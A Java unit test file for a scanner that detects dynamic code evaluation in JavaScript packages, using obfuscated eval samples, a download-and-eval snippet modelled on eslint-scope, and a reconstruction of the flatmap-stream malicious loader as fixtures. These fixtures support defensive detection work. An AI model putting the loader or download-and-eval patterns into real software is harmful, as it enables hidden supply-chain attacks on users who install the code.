package dev.lazaret.policy.content;

import static dev.lazaret.policy.content.CodeFinding.Kind.DYNAMIC_EVAL;
import static dev.lazaret.policy.content.Samples.scan;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class DynamicEvalsTest {

  @Test
  void evaluatingDecodedTextIsDynamicEval() {
    assertThat(scan("a.js", "eval(atob('Y29uc29sZS5sb2coMSk='))", DYNAMIC_EVAL)).hasSize(1);
    assertThat(scan("a.js", "new Function(Buffer.from(p, 'base64').toString())()",
        DYNAMIC_EVAL)).hasSize(1);
    assertThat(scan("a.js", "eval(s.split('').reverse().join(''))", DYNAMIC_EVAL)).hasSize(1);
  }

  @Test
  void evaluatingAVariableAssignedFromADecoderIsDynamicEval() {
    String code = "const payload = Buffer.from(blob, \"base64\").toString('utf8');\n"
        + "setTimeout(() => {\n  eval(payload);\n}, 1000);\n";
    assertThat(scan("a.js", code, DYNAMIC_EVAL)).extracting(CodeFinding::line)
        .containsExactly(3);
  }

  @Test
  void evaluatingWhatAFileDownloadsIsDynamicEval() {
    // eslint-scope 3.7.2 fetched its second stage and evaluated it.
    String code = "var https = require('https');\n"
        + "https.get(u, r => r.on('data', c => { eval(c); }));\n";
    assertThat(scan("build.js", code, DYNAMIC_EVAL)).extracting(CodeFinding::line)
        .containsExactly(2);
  }

  @Test
  void literalsAndGeneratedTemplatesAreNot() {
    assertThat(scan("a.js", "var g = Function('return this')(); var r = eval('require');"
        + " var f = new Function('a', 'b', 'return a + b');"
        + " var t = new Function(argNames, source);", DYNAMIC_EVAL)).isEmpty();
    assertThat(scan("dayjs.min.js", Samples.text("benign-terser.min.js"), DYNAMIC_EVAL))
        .isEmpty();
    assertThat(scan("main.js", Samples.text("benign-webpack-dev.js"), DYNAMIC_EVAL)).isEmpty();
  }

  @Test
  void aModuleCompiledFromDecodedTextIsDynamicEval() {
    // flatmap-stream 0.1.1's loader appended to index.min.js: hex-decoded names, a module made
    // from module.constructor and compiled through a computed name.
    String loader = "!function(){try{var r=require,t=process;function e(r){return"
        + " Buffer.from(r,\"hex\").toString()}var n=r(e(\"2e2f746573742f64617461\")),"
        + "o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),"
        + "a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;"
        + "f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();";
    assertThat(scan("index.min.js", "module.exports=1;\n" + loader, DYNAMIC_EVAL))
        .extracting(CodeFinding::line).containsExactly(2);
    // The same without the decoder: the compile call still hides behind a computed name.
    assertThat(scan("index.js", "var m = new module.constructor(); m.paths = module.paths;"
        + " m[k](src, '');", DYNAMIC_EVAL)).hasSize(1);
    // A module compiled by name from text decoded nearby.
    assertThat(scan("a.js", "const src = Buffer.from(blob, 'base64').toString();"
        + " const m = new module.constructor(); m._compile(src, 'x.js');", DYNAMIC_EVAL))
        .hasSize(1);
  }

  @Test
  void requireHooksAndRequireFromStringHelpersAreNot() {
    // pirates/ts-node: a require hook compiling what it transpiled, _compile named in the clear.
    assertThat(scan("lib/index.js", "const Module = require('module');\n"
        + "const oldLoader = Module._extensions['.js'];\n"
        + "Module._extensions['.js'] = function (mod, filename) {\n"
        + "  const compile = mod._compile;\n"
        + "  mod._compile = function (code) { return compile.call(this, hook(code, filename),"
        + " filename); };\n"
        + "  oldLoader(mod, filename);\n};\n", DYNAMIC_EVAL)).isEmpty();
    // require-from-string: a new module, the caller's paths, _compile by name on given source.
    assertThat(scan("index.js", "var m = new module.constructor();\n"
        + "m.paths = module.paths;\nm._compile(code, filename);\nreturn m.exports;\n",
        DYNAMIC_EVAL)).isEmpty();
    assertThat(scan("index.js", "var m = new module.constructor(); m.paths = module.paths;"
        + " m._compile(code, filename); return m.exports;", DYNAMIC_EVAL)).isEmpty();
  }
}
